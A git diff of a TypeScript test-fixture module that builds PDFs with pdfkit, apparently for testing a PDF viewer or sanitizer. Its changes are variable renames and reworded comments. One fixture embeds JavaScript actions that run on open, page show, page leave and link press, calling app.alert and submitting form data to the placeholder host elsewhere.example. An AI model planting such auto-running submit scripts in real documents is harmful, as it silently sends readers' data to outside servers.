@@ -1,24 +1,24 @@
 import PDFDocument from "pdfkit";
 
-/** A PDF with a line on each page, in a font that it does not hold; with a password only who knows it reads it. */
+/** A PDF with a line on each page, in a font that is not embedded; optionally encrypted with a password. */
 export function pdfOfPages(lines: readonly string[], password?: string): Promise<Buffer> {
-  const paper = new PDFDocument({
+  const pdf = new PDFDocument({
     size: "LETTER",
     autoFirstPage: false,
     ...(password === undefined ? {} : { userPassword: password }),
   });
   const chunks: Buffer[] = [];
-  paper.on("data", (chunk: Buffer) => chunks.push(chunk));
-  const whole = new Promise<Buffer>((resolve) => paper.on("end", () => resolve(Buffer.concat(chunks))));
-  for (const line of lines) paper.addPage().font("Helvetica-Bold").fontSize(28).text(line);
-  paper.end();
+  pdf.on("data", (chunk: Buffer) => chunks.push(chunk));
+  const whole = new Promise<Buffer>((resolve) => pdf.on("end", () => resolve(Buffer.concat(chunks))));
+  for (const line of lines) pdf.addPage().font("Helvetica-Bold").fontSize(28).text(line);
+  pdf.end();
   return whole;
 }
 
-/** Where a press finds its link, in points from the left and the top. */
+/** Where its link is, in points from the left and the top. */
 export const linkAt = { x: 150, y: 90 };
 
-/** A PDF that asks to run scripts when it is opened, shown, left, and when its link is pressed. */
+/** A PDF that tries to run scripts when it is opened, shown, left, and when its link is pressed. */
 export function pdfWithScripts(): Buffer {
   const script = (moment: string) =>
     `<< /S /JavaScript /JS (app.alert\\('${moment}'\\); this.submitForm\\('https://elsewhere.example/${moment}'\\);) >>`;
@@ -37,7 +37,7 @@ export function pdfWithScripts(): Buffer {
   return pdfOfObjects(objects);
 }
 
-/** A PDF with letters beside a picture in JPEG 2000. */
+/** A PDF with text next to a picture in JPEG 2000. */
 export function pdfWithUnknownPicture(): Buffer {
   const content = "BT /F1 28 Tf 60 690 Td (Beside a picture) Tj ET q 100 0 0 100 60 500 cm /Im1 Do Q";
   return pdfOfObjects([
